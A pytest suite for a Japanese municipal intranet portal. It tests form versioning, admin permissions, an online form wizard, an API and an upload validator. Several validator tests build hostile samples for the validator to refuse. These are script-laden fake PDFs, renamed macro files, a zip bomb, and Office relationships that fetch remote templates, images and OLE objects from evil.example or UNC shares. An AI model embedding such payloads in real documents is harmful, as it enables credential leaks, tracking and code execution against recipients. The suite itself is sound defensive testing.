import datetime
import io
import re
import zipfile
from pathlib import Path
from urllib.parse import quote

import openpyxl
import pytest
from django.conf import settings as django_settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template import Context, Template
from django.template.defaultfilters import filesizeformat
from django.urls import reverse
from django.utils import timezone

from forms.demo import sample_file
from forms.files import validate_form_file
from forms.models import FormIndexPage, FormTemplate, FormVersion, OnlineFormPage, OnlineFormSubmission
from portal.models import Category, Section
from portal.roles import ADMINISTRATOR, CENTRE_STAFF, READER

pytestmark = pytest.mark.django_db
ADD_VERSION = "/admin/snippets/forms/formversion/add/"
OFFICE_MAIN_TYPES = {
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
}


@pytest.fixture
def form_template():
    """A template with an old, a current and an upcoming version, dated relative to today."""
    today = timezone.localdate()
    template = FormTemplate(
        portal="intranet",
        number="様式第99号",
        title="テスト届",
        section=Section.objects.get(slug="kyuyo"),
        category=Category.objects.get(slug="kyuyo"),
    )
    template.save()
    template.save_revision().publish()
    for label, days, kind in [("旧版", -400, "pdf"), ("現行版", -10, "xlsx"), ("次期版", 20, "docx")]:
        FormVersion.objects.create(
            template=template,
            label=label,
            effective_date=today + datetime.timedelta(days=days),
            previous_accepted_until=today + datetime.timedelta(days=days + 60),
            change_summary=f"{label}の改正内容",
            file=sample_file(kind, label.encode("unicode_escape").decode(), name=f"x.{kind}"),
        )
    return template


def _freeze_today(monkeypatch, day):
    monkeypatch.setattr(timezone, "localdate", lambda *args, **kwargs: day)


def _download(response):
    return b"".join(response.streaming_content)


def test_public_api(form_template):
    assert str(form_template) == "様式第99号 テスト届"
    assert form_template.get_absolute_url() == f"/forms/{form_template.pk}/"
    assert form_template.history_url == f"/forms/{form_template.pk}/history/"


def test_future_version_takes_over_on_its_effective_date(form_template):
    today = timezone.localdate()
    assert form_template.current_version(today).label == "現行版"
    assert form_template.current_version(today + datetime.timedelta(days=19)).label == "現行版"
    assert form_template.current_version(today + datetime.timedelta(days=20)).label == "次期版"


def test_stable_url_serves_the_version_in_effect_today(form_template, portal_client, role_user, monkeypatch):
    client = portal_client("intranet", role_user(READER, "intranet"))
    versions = {version.label: version for version in form_template.versions.all()}

    response = client.get(form_template.get_absolute_url())
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    assert _download(response) == versions["現行版"].file.open("rb").read()

    _freeze_today(monkeypatch, timezone.localdate() + datetime.timedelta(days=20))
    assert _download(client.get(form_template.get_absolute_url())) == versions["次期版"].file.open("rb").read()


def test_history_lists_every_version_in_wareki(form_template, portal_client, role_user):
    html = portal_client("intranet", role_user(READER, "intranet")).get(form_template.history_url).content.decode()
    for version in form_template.versions.all():
        assert version.label in html
        assert version.change_summary in html
    assert html.count('data-testid="form-version"') == 3
    assert "令和" in html and "まで旧様式も可" in html
    assert "現在の様式" in html and "施行予定" in html


def test_other_portals_template_is_not_found(form_template, portal_client, role_user):
    client = portal_client("education", role_user(READER, "education"))
    assert client.get(form_template.get_absolute_url()).status_code == 404
    assert client.get(form_template.history_url).status_code == 404


def test_unpublished_template_is_not_served(form_template, portal_client, role_user):
    form_template.unpublish()
    client = portal_client("intranet", role_user(READER, "intranet"))
    assert client.get(form_template.get_absolute_url()).status_code == 404


def test_file_type_is_judged_by_content_not_name():
    with pytest.raises(ValidationError, match="拡張子だけを変えたファイル"):
        validate_form_file(SimpleUploadedFile("偽物.pdf", "これはテキストです".encode()))
    with pytest.raises(ValidationError, match="一致しません"):
        validate_form_file(sample_file("xlsx", "real excel", name="renamed.pdf"))
    assert validate_form_file(sample_file("docx", "ok"))[0] == "docx"


def _repackaged(kind, main_type, extra=None):
    """A real xlsx/docx whose [Content_Types].xml declares `main_type` as its main part, plus `extra` {name: bytes}."""
    source = zipfile.ZipFile(io.BytesIO(sample_file(kind, "macro").read()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            data = source.read(name)
            if name == "[Content_Types].xml":
                data = re.sub(rb'ContentType="[^"]+\.main\+xml"', f'ContentType="{main_type}"'.encode(), data)
            archive.writestr(name, data)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return SimpleUploadedFile(f"様式.{kind}", out.getvalue())


@pytest.mark.parametrize(
    "kind, main_type, extra",
    [
        ("xlsx", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        ("docx", "application/vnd.ms-word.document.macroEnabled.main+xml", None),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", {"xl/vbaProject.bin": b"x"}),
    ],
    ids=["xlsm-renamed", "docm-renamed", "xlsx-with-vba-project"],
)
def test_macro_enabled_office_files_renamed_xlsx_or_docx_are_refused(kind, main_type, extra):
    with pytest.raises(ValidationError, match="マクロを含むファイル（.xlsm・.docm など）は登録できません"):
        validate_form_file(_repackaged(kind, main_type, extra))


def test_office_file_must_declare_a_workbook_or_document_main_part():
    template = "application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml"
    with pytest.raises(ValidationError, match="拡張子だけを変えたファイル"):
        validate_form_file(_repackaged("xlsx", template))
    plain_zip = io.BytesIO()
    with zipfile.ZipFile(plain_zip, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    with pytest.raises(ValidationError, match="拡張子だけを変えたファイル"):
        validate_form_file(SimpleUploadedFile("様式.xlsx", plain_zip.getvalue()))
    assert validate_form_file(sample_file("xlsx", "ok"))[0] == "xlsx"


def _encrypted_pdf():
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(sample_file("pdf", "secret").read())))
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "content, says",
    [
        (lambda: b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n", "PDFとして開けないファイルです"),
        (lambda: sample_file("pdf", "ok").read() + b"<html><script>alert(1)</script></html>" * 50, "PDFとして開けないファイルです"),
        (lambda: b"%PDF-1.4\n%<html><script>alert(1)</script>\n" + sample_file("pdf", "ok").read()[9:], "PDFとして開けないファイルです"),
        (lambda: sample_file("pdf", "ok").read()[:-120], "PDFとして開けないファイルです"),
        (_encrypted_pdf, "パスワードで保護されたPDFは登録できません"),
    ],
    ids=["header-then-html", "html-after-the-end", "html-in-a-comment", "truncated", "password"],
)
def test_a_file_that_only_starts_like_a_pdf_is_refused(content, says):
    with pytest.raises(ValidationError, match=says):
        validate_form_file(SimpleUploadedFile("様式.pdf", content()))


def _zero_bytes_part(size):
    """An extra package part of `size` zero bytes: it compresses to almost nothing."""
    return {"xl/media/zeros.bin": bytes(size)}


RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _relationship(kind, target, external=True):
    mode = ' TargetMode="External"' if external else ""
    return RELS.format(f'<Relationship Id="rId9" Type="{REL_TYPE}{kind}" Target="{target}"{mode}/>')


def test_an_office_file_that_would_expand_beyond_the_limit_is_refused(settings):
    settings.FORMS_MAX_EXPANDED_BYTES = 8 * 1024 * 1024
    bomb = _repackaged("xlsx", OFFICE_MAIN_TYPES["xlsx"], _zero_bytes_part(64 * 1024 * 1024))
    assert bomb.size < 1024 * 1024
    with pytest.raises(ValidationError, match="ファイルを開くと64.0.*MBに展開されます（上限8.0"):
        validate_form_file(bomb)


def test_an_office_file_of_too_many_parts_is_refused(settings):
    settings.FORMS_MAX_ZIP_ENTRIES = 40
    parts = {f"xl/media/part{number}.bin": b"x" for number in range(40)}
    with pytest.raises(ValidationError, match="ファイルの中の部品が多すぎます"):
        validate_form_file(_repackaged("xlsx", OFFICE_MAIN_TYPES["xlsx"], parts))


@pytest.mark.parametrize(
    "kind, part, rels",
    [
        ("docx", "word/_rels/settings.xml.rels", _relationship("attachedTemplate", "https://evil.example/t.dotm")),
        ("docx", "word/_rels/settings.xml.rels", _relationship("attachedTemplate", "file://///evil.example/share/t.dotm")),
        ("docx", "word/_rels/document.xml.rels", _relationship("image", "http://evil.example/pixel.png")),
        ("docx", "word/_rels/document.xml.rels", _relationship("oleObject", "\\\\evil.example\\share\\x.bin")),
        ("docx", "word/_rels/document.xml.rels", _relationship("hyperlink", "file://///evil.example/share")),
        ("xlsx", "xl/externalLinks/_rels/externalLink1.xml.rels", _relationship("externalLinkPath", "https://evil.example/b.xlsx")),
    ],
    ids=["remote-template", "unc-template", "remote-image", "unc-ole-object", "unc-hyperlink", "workbook-link"],
)
def test_an_office_file_that_fetches_anything_from_outside_is_refused(kind, part, rels):
    with pytest.raises(ValidationError, match="外部のファイルやサーバー"):
        validate_form_file(_repackaged(kind, OFFICE_MAIN_TYPES[kind], {part: rels}))


def test_web_links_a_reader_clicks_and_internal_relationships_are_kept():
    links = RELS.format(
        f'<Relationship Id="rId8" Type="{REL_TYPE}hyperlink" Target="https://www.city.example.jp/" TargetMode="External"/>'
        f'<Relationship Id="rId9" Type="{REL_TYPE}styles" Target="styles.xml"/>'
    )
    assert validate_form_file(_repackaged("docx", OFFICE_MAIN_TYPES["docx"], {"word/_rels/document.xml.rels": links}))[0] == "docx"


def test_relationships_with_a_dtd_are_refused():
    entities = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa">]><Relationships/>'
    with pytest.raises(ValidationError, match="拡張子だけを変えたファイル"):
        validate_form_file(_repackaged("docx", OFFICE_MAIN_TYPES["docx"], {"word/_rels/x.xml.rels": entities}))


def _stored_form_files():
    root = Path(django_settings.MEDIA_ROOT) / "forms"
    return sorted(str(path) for path in root.rglob("*") if path.is_file()) if root.exists() else []


@pytest.mark.parametrize(
    "upload",
    [
        lambda: SimpleUploadedFile("様式.pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>"),
        lambda: _repackaged("docx", OFFICE_MAIN_TYPES["docx"], {"word/_rels/settings.xml.rels": _relationship("attachedTemplate", "https://evil.example/t.dotm")}),
    ],
    ids=["html-pdf", "remote-template"],
)
def test_an_editors_refused_upload_says_why_and_is_never_stored(form_template, client, role_user, upload):
    client.force_login(role_user(CENTRE_STAFF, "intranet"))
    before, stored = FormVersion.objects.count(), _stored_form_files()
    response = _post_version(client, ADD_VERSION, form_template, file=upload())
    assert response.status_code == 200
    assert "PDFとして開けない" in response.content.decode() or "外部のファイルやサーバー" in response.content.decode()
    assert FormVersion.objects.count() == before
    assert _stored_form_files() == stored


def test_demo_version_labels_name_the_month_of_their_effective_date():
    """The demo dates its versions relative to today; their labels must say the same 和暦 year and month."""
    versions = FormVersion.objects.select_related("template").order_by("template", "effective_date")
    assert versions.count() >= 16
    for version in versions:
        day = version.effective_date
        reiwa_year = "元" if day.year == 2019 else day.year - 2018
        first = version == version.template.versions.order_by("effective_date").first()
        assert version.label == f"令和{reiwa_year}年{day.month}月{'制定' if first else '改正'}版", version


def test_oversized_file_is_refused(settings):
    settings.FORMS_MAX_FILE_BYTES = 100
    with pytest.raises(ValidationError, match="ファイルが大きすぎます"):
        validate_form_file(sample_file("pdf", "too big"))


def _post_version(client, url, template, **fields):
    """Submit the admin's version form on the intranet host; fields default to a valid new version."""
    data = {
        "template": template.pk,
        "label": "令和12年版",
        "effective_date": "2030-04-01",
        "change_summary": "様式を全面改正",
        "file": sample_file("pdf", "v2030", name="new.pdf"),
        **fields,
    }
    return client.post(url, data, HTTP_HOST="intranet.localhost")


def test_editor_upload_of_a_renamed_text_file_shows_a_japanese_error(form_template, client, role_user):
    client.force_login(role_user(CENTRE_STAFF, "intranet"))
    before = FormVersion.objects.count()
    response = _post_version(client, ADD_VERSION, form_template, file=SimpleUploadedFile("様式.pdf", b"just text, not a pdf"))
    assert response.status_code == 200
    assert "拡張子だけを変えたファイルは登録できません" in response.content.decode()
    assert FormVersion.objects.count() == before


def test_editor_adds_a_version_and_cannot_rewrite_it(form_template, client, role_user):
    client.force_login(role_user(CENTRE_STAFF, "intranet"))
    response = _post_version(client, ADD_VERSION, form_template)
    assert response.status_code == 302
    version = form_template.versions.get(label="令和12年版")
    assert f"/{form_template.pk}/20300401/" in version.file.name
    _post_version(
        client,
        f"/admin/snippets/forms/formversion/edit/{version.pk}/",
        form_template,
        label="書き換え",
        effective_date="2020-01-01",
        change_summary="誤字を修正",
        file=sample_file("pdf", "replaced", name="other.pdf"),
    )
    version.refresh_from_db()
    assert (version.label, version.effective_date) == ("令和12年版", datetime.date(2030, 4, 1))
    assert version.change_summary == "誤字を修正"
    assert b"v2030" in version.file.open("rb").read()


def test_other_centres_versions_are_hidden_in_the_admin(form_template, client, role_user):
    client.force_login(role_user(CENTRE_STAFF, "education"))
    version = form_template.versions.first()
    listing = client.get("/admin/snippets/forms/formversion/", HTTP_HOST="edu.localhost").content.decode()
    assert "テスト届" not in listing
    assert client.get(f"/admin/snippets/forms/formversion/edit/{version.pk}/", HTTP_HOST="edu.localhost").status_code == 404


def test_form_link_tag_shows_number_title_type_and_size(form_template):
    html = Template("{% load forms_tags %}{% form_link template %}").render(Context({"template": form_template}))
    assert "様式第99号 テスト届" in html
    assert f'href="/forms/{form_template.pk}/"' in html
    assert "Excel" in html
    assert filesizeformat(form_template.current_version().file_size) in html
    assert form_template.history_url in html


def test_form_index_lists_templates_by_category_and_searches(form_template, portal_client, role_user):
    index = FormIndexPage.objects.live().descendant_of(_intranet_home()).first()
    client = portal_client("intranet", role_user(READER, "intranet"))
    html = client.get(index.url).content.decode()
    assert "テスト届" in html and "通勤届" in html
    assert "<h2>給与</h2>" in html
    assert "教職員用" not in html
    assert "住所変更届" in html

    found = client.get(index.url, {"q": "ゆうちょ"}).content.decode()
    assert "児童手当振込口座変更届" in found and "通勤届" not in found
    assert "該当する様式はありません" in client.get(index.url, {"q": "存在しない様式"}).content.decode()


def _intranet_home():
    from pages.models import portal_home

    return portal_home("intranet")


def _address_form():
    page = OnlineFormPage.objects.live().descendant_of(_intranet_home()).get(slug="address-change")
    names = {field.label: field.clean_name for field in page.form_fields.all()}
    return page, names


def _step(client, url, step, data, **extra):
    payload = {f"online_form_{_address_form()[0].pk}-current_step": step, **extra}
    payload.update({f"{step}-{name}": value for name, value in data.items()})
    return client.post(url, payload)


def test_wizard_keeps_answers_going_back_and_forth_and_records_the_revision(portal_client, role_user):
    page, names = _address_form()
    published_revision_id = page.live_revision_id
    page.title = "住所変更届（編集中の下書き）"
    draft = page.save_revision()
    assert draft.pk != published_revision_id
    client = portal_client("intranet", role_user(READER, "intranet"))
    url = page.url

    first = client.get(url).content.decode()
    assert "新しい住所（1/3）" in first

    refused = _step(client, url, "0", {names["転居日"]: "", names["郵便番号"]: "", names["新しい住所"]: ""}).content.decode()
    assert "この項目は必須です" in refused
    assert "入力内容を確認してください" in refused

    step1 = {names["転居日"]: "2026-04-01", names["郵便番号"]: "231-0005", names["新しい住所"]: "横浜市中区本町1-2-3"}
    assert "通勤への影響（2/3）" in _step(client, url, "0", step1).content.decode()

    back = _step(client, url, "1", {names["通勤経路の変更"]: "あり"}, wizard_goto_step="0").content.decode()
    assert "横浜市中区本町1-2-3" in back and "新しい住所（1/3）" in back

    forward = _step(client, url, "0", step1).content.decode()
    assert "通勤への影響（2/3）" in forward
    assert re.search(r'value="あり"[^>]*checked', forward)

    _step(client, url, "1", {names["通勤経路の変更"]: "あり", names["住居手当の申請"]: "申請する"})
    done = _step(client, url, "2", {names["連絡先の内線番号"]: "1234", names["備考"]: ""}).content.decode()
    assert "住所変更届を受け付けました" in done

    submission = OnlineFormSubmission.objects.filter(page=page).latest("submit_time")
    assert submission.revision_id == published_revision_id
    assert submission.form_data[names["新しい住所"]] == "横浜市中区本町1-2-3"
    assert submission.form_data[names["通勤経路の変更"]] == "あり"
    assert submission.user.username.endswith("reader-intranet")


@pytest.mark.parametrize(
    "field, value, says",
    [
        ("新しい住所", "横浜市\x00中区", "NUL文字（目に見えない制御文字）は使えません"),
        ("備考", "長" * 4001, "4000文字以内で入力してください（現在4001文字）。"),
    ],
    ids=["nul", "long-remark"],
)
def test_a_bad_answer_to_an_online_form_is_explained_in_japanese(portal_client, role_user, field, value, says):
    page, names = _address_form()
    client = portal_client("intranet", role_user(READER, "intranet"))
    client.get(page.url)
    step1 = {names["転居日"]: "2026-04-01", names["郵便番号"]: "231-0005", names["新しい住所"]: "横浜市中区本町1-2-3"}
    if field == "新しい住所":
        response = _step(client, page.url, "0", {**step1, names[field]: value})
    else:
        _step(client, page.url, "0", step1)
        _step(client, page.url, "1", {names["通勤経路の変更"]: "あり", names["住居手当の申請"]: "申請する"})
        response = _step(client, page.url, "2", {names["連絡先の内線番号"]: "1234", names[field]: value})
    assert response.status_code == 200
    assert says in response.content.decode()
    assert not OnlineFormSubmission.objects.filter(page=page).exists()


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_submissions_export_to_csv_and_excel(export, client, role_user):
    page, names = _address_form()
    page.save_submission({names["新しい住所"]: "川崎市幸区1-1", names["連絡先の内線番号"]: "5678"}, role_user(READER, "intranet"))
    client.force_login(role_user(ADMINISTRATOR, "intranet"))
    response = client.get(f"/admin/forms/submissions/{page.pk}/", {"export": export}, HTTP_HOST="intranet.localhost")
    assert response.status_code == 200
    body = _download(response) if response.streaming else response.content
    if export == "csv":
        text = body.decode("utf-8-sig")
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(body)).active
        text = "\n".join(str(cell.value) for row in sheet.iter_rows() for cell in row)
    assert "川崎市幸区1-1" in text
    assert "新しい住所" in text
    assert "フォームの版（リビジョン）" in text and str(page.live_revision_id) in text


def test_old_version_deadline_before_the_effective_date_is_refused_in_japanese(form_template, client, role_user):
    client.force_login(role_user(CENTRE_STAFF, "intranet"))
    before = FormVersion.objects.count()
    response = _post_version(
        client, ADD_VERSION, form_template, effective_date="2030-04-01", previous_accepted_until="2030-03-31"
    )
    assert response.status_code == 200
    assert "旧様式使用期限は施行日（この版の使用開始日）以降の日付にしてください" in response.content.decode()
    assert FormVersion.objects.count() == before

    _post_version(client, ADD_VERSION, form_template, effective_date="2030-04-01", previous_accepted_until="2030-04-01")
    assert FormVersion.objects.filter(template=form_template, effective_date="2030-04-01").exists()


def test_second_version_on_the_same_date_is_refused_in_japanese(form_template, client, role_user):
    client.force_login(role_user(CENTRE_STAFF, "intranet"))
    current = form_template.current_version()
    response = _post_version(client, ADD_VERSION, form_template, effective_date=current.effective_date.isoformat())
    assert "同じ施行日の版が既にあります" in response.content.decode()


def test_editor_admin_screens_offer_only_their_own_portal(form_template, client, role_user):
    client.force_login(role_user(CENTRE_STAFF, "education"))
    add = client.get("/admin/snippets/forms/formtemplate/add/", HTTP_HOST="edu.localhost").content.decode()
    assert 'value="education"' in add and 'value="intranet"' not in add
    listing = client.get("/admin/snippets/forms/formtemplate/", HTTP_HOST="edu.localhost").content.decode()
    assert "教様式第3号" in listing and "テスト届" not in listing
    edit = client.get(f"/admin/snippets/forms/formtemplate/edit/{form_template.pk}/", HTTP_HOST="edu.localhost")
    assert edit.status_code == 404


def test_a_tampered_wizard_step_gets_a_400_and_the_answers_so_far_are_kept(portal_client, role_user):
    page, names = _address_form()
    client = portal_client("intranet", role_user(READER, "intranet"))
    client.get(page.url)
    step1 = {names["転居日"]: "2026-04-01", names["郵便番号"]: "231-0005", names["新しい住所"]: "横浜市中区本町1-2-3"}
    _step(client, page.url, "0", step1)

    assert _step(client, page.url, "999", {}).status_code == 400

    back = _step(client, page.url, "1", {}, wizard_goto_step="0").content.decode()
    assert "横浜市中区本町1-2-3" in back


def test_online_form_editor_offers_step_dividers(client, role_user):
    page, _ = _address_form()
    client.force_login(role_user(ADMINISTRATOR, "intranet"))
    html = client.get(f"/admin/pages/{page.pk}/edit/", HTTP_HOST="intranet.localhost").content.decode()
    assert "ステップ区切り" in html


def _admin_object_urls(model, obj):
    """Every admin URL the model's snippet viewset has for one object (edit, history, revisions, unpublish, lock…)."""
    viewset = model.snippet_viewset
    values = {"pk": obj.pk, "revision_id_a": "earliest", "revision_id_b": "latest"}
    if isinstance(obj, FormTemplate):
        values["revision_id"] = obj.latest_revision_id
    urls = {}
    for pattern in viewset.get_urlpatterns():
        params = pattern.pattern.regex.groupindex
        if "pk" in params:
            urls[pattern.name] = reverse(viewset.get_url_name(pattern.name), kwargs={k: values[k] for k in params})
    return urls


@pytest.mark.parametrize("model", [FormTemplate, FormVersion])
def test_no_admin_url_of_another_centres_form_is_reachable(model, form_template, client, role_user):
    obj = form_template if model is FormTemplate else form_template.versions.first()
    urls = _admin_object_urls(model, obj)
    assert {"edit", "history", "usage", "copy"} <= set(urls)
    if model is FormTemplate:
        assert {"revisions_view", "revisions_compare", "unpublish", "lock", "unlock", "preview_on_edit"} <= set(urls)

    client.force_login(role_user(ADMINISTRATOR, "education"))
    for name, url in urls.items():
        assert client.get(url, HTTP_HOST="edu.localhost").status_code == 404, name
        assert client.post(url, HTTP_HOST="edu.localhost").status_code == 404, name
    form_template.refresh_from_db()
    assert form_template.live and not form_template.locked

    client.force_login(role_user(ADMINISTRATOR, "intranet"))
    for name, url in urls.items():
        assert client.get(url, HTTP_HOST="intranet.localhost").status_code in (200, 302), name


def test_other_portals_reader_cannot_download_through_this_portals_host(form_template, portal_client, role_user):
    client = portal_client("intranet", role_user(READER, "education"))
    version = form_template.current_version()
    assert client.get(form_template.get_absolute_url()).status_code == 403
    assert client.get(version.get_absolute_url()).status_code == 403
    assert client.get(form_template.history_url).status_code == 403


def test_each_version_downloads_under_its_japanese_name(form_template, portal_client, role_user):
    client = portal_client("intranet", role_user(READER, "intranet"))
    old = form_template.versions.get(label="旧版")
    response = client.get(old.get_absolute_url())
    assert _download(response) == old.file.open("rb").read()
    assert response["Content-Disposition"] == f"attachment; filename*=utf-8''{quote('様式第99号_テスト届_旧版.pdf')}"


def test_version_files_have_no_guessable_address(form_template, client, role_user):
    names = [version.file.name for version in form_template.versions.all()]
    assert all(re.fullmatch(rf"forms/intranet/{form_template.pk}/\d{{8}}/[\w-]{{20,}}/x\.\w+", name) for name in names)
    assert len({name.split("/")[-2] for name in names}) == len(names)

    client.force_login(role_user(CENTRE_STAFF, "intranet"))
    version = form_template.current_version()
    edit = client.get(f"/admin/snippets/forms/formversion/edit/{version.pk}/", HTTP_HOST="intranet.localhost")
    html = edit.content.decode()
    assert version.file.name not in html and "/media/" not in html
    assert f'href="{version.get_absolute_url()}"' in html and version.download_name in html


def test_forms_api_lists_the_readers_own_portal_with_a_checked_download_link(form_template, portal_client, role_user):
    client = portal_client("intranet", role_user(READER, "intranet"))
    listing = client.get("/api/v2/forms/", {"number": "様式第99号"}).json()
    assert listing["meta"]["total_count"] == 1
    item = listing["items"][0]
    assert {entry["portal"] for entry in client.get("/api/v2/forms/").json()["items"]} == {"intranet"}
    current = form_template.current_version()
    assert (item["number"], item["title"]) == ("様式第99号", "テスト届")
    assert item["current_version"] == {
        "label": "現行版",
        "effective_date": current.effective_date.isoformat(),
        "download_url": f"http://intranet.localhost/forms/{form_template.pk}/",
    }
    assert _download(client.get(item["current_version"]["download_url"])) == current.file.open("rb").read()


def test_forms_api_hides_other_portals_and_anonymous_callers(form_template, portal_client, role_user):
    client = portal_client("education", role_user(READER, "education"))
    items = client.get("/api/v2/forms/").json()["items"]
    assert items and {item["portal"] for item in items} == {"education"}
    assert client.get(f"/api/v2/forms/{form_template.pk}/").status_code == 404
    client.logout()
    assert client.get("/api/v2/forms/").status_code == 401


def test_template_chooser_offers_only_the_editors_own_centre(form_template, client, role_user):
    client.force_login(role_user(CENTRE_STAFF, "education"))
    chooser = client.get("/admin/snippets/choose/forms/formtemplate/", HTTP_HOST="edu.localhost").json()["html"]
    assert "教様式第3号" in chooser and "テスト届" not in chooser
    chosen = f"/admin/snippets/choose/forms/formtemplate/chosen/{form_template.pk}/"
    assert client.get(chosen, HTTP_HOST="edu.localhost").status_code == 404
